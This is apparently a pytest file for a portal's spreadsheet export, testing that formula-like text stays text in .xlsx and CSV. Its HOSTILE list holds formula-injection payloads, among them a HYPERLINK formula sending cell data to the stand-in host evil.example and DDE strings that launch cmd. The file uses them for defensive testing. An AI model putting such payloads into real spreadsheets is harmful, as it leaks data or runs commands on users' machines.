"""The one writer of spreadsheets: text that starts like a formula stays text, in .xlsx and
in CSV, and everything else is written as it is."""

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import append_row, csv_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(values: list) -> tuple:
    book = Workbook()
    append_row(book.active, values)
    return next(load_workbook(io.BytesIO(xlsx_bytes(book))).active.iter_rows(min_row=1))


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_keeps_text_that_starts_like_a_formula_as_text(text):
    (cell,) = _read_back([text])
    assert cell.data_type == "s"
    # Unchanged, so that the plan's file reads back on import (XML without lxml reads a lone
    # CR as LF; with lxml, openpyxl keeps it).
    assert cell.value in (text, text.replace("\r", "\n"))
    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_xlsx_writes_other_values_as_they_are():
    text, number, negative, day = _read_back(["Öppna data", 12, -3, date(2025, 1, 31)])
    assert (text.value, text.data_type, text.quotePrefix) == ("Öppna data", "s", False)
    assert (number.value, number.data_type) == (12, "n")
    assert (negative.value, negative.data_type) == (-3, "n")  # a number, not text with "-"
    assert day.is_date and day.value.date() == date(2025, 1, 31)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_puts_an_apostrophe_before_text_that_starts_like_a_formula(text):
    data = csv_text(["Titel"], [[text]])
    rows = list(csv.reader(io.StringIO(data.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["Titel"], ["'" + text]]


def test_csv_is_utf8_with_a_byte_order_mark_and_semicolons():
    data = csv_text(
        ["Titel", "Antal", "Start", "Tom"], [["Åtgärd; två", -5, date(2025, 1, 31), None]]
    )
    assert data.startswith("\ufeffTitel;Antal;Start;Tom\r\n")
    rows = list(csv.reader(io.StringIO(data.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1] == ["Åtgärd; två", "-5", "2025-01-31", ""]  # a negative number stays a number
